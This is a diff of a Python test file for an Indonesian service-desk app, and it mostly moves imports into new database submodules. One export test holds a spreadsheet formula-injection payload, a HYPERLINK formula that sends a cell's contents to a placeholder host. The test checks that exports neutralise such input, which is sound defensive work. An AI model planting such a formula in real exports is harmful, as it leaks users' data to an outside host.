@@ -6,8 +6,9 @@ from __future__ import annotations
 import pytest
 
 from tests.drivers import case_of_record, get_case
-from ult_desktop.db import errors, office, queries, queue
+from ult_desktop.db import errors, queries, queue
 from ult_desktop.db.engine import Database
+from ult_desktop.db.house import office
 
 
 def test_queue_snapshot_is_one_read(db, db_path):
@@ -67,7 +68,7 @@ def test_cases_are_read_in_one_snapshot(db):
     """A case and its register record are changed together (answer_case); reading them
     in separate statements could show the new answer on one and the old on the other."""
     from ult_desktop.core.register import RecordInput
-    from ult_desktop.db import cases, register
+    from ult_desktop.db.visit import cases, register
 
     ticket = queue.issue_ticket(db, service="A")
     rec = register.save_record(db, record=RecordInput(visitor_name="Budi", topic="ijazah"),
@@ -89,7 +90,7 @@ def test_rule_messages_have_no_english_inside_indonesian(db, action):
     """These refusals said "Masukan tidak valid: transfer needs a destination."."""
     from ult_desktop.core.i18n import tr
     from ult_desktop.core.register import RecordInput
-    from ult_desktop.db import register
+    from ult_desktop.db.visit import register
 
     ticket = queue.issue_ticket(db, service="A")
     queue.call_next(db, counter=1)
@@ -127,7 +128,7 @@ def test_exports_do_not_turn_visitor_text_into_formulas(db, tmp_path):
     import openpyxl
 
     from ult_desktop.core.register import RecordInput
-    from ult_desktop.db import register
+    from ult_desktop.db.visit import register
     from ult_desktop.reports.export import export_csv, export_xlsx
 
     evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
@@ -229,7 +230,7 @@ def test_cli_report_unknown_format_is_translated(db_path, tmp_path):
 
 def test_transfer_to_an_unknown_or_inactive_officer_is_refused(db):
     """Such a ticket could never be called again (no counter has that officer)."""
-    from ult_desktop.db import officers
+    from ult_desktop.db.house import officers
 
     ticket = queue.issue_ticket(db, service="A")
     with pytest.raises(errors.RuleViolation):
